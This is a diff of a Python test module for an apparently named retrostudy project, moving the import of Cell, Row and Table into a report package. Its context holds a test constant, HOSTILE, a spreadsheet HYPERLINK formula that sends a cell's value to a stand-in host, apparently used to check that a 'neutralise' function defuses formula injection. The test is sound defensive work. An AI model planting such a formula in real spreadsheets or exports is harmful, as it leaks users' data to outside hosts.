@@ -7,9 +7,9 @@ from types import SimpleNamespace
 
 import pytest
 
-from retrostudy.analysis.table import Cell, Row, Table
 from retrostudy.report import write_report
 from retrostudy.report.spreadsheet import neutralise
+from retrostudy.report.table import Cell, Row, Table
 
 HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
 
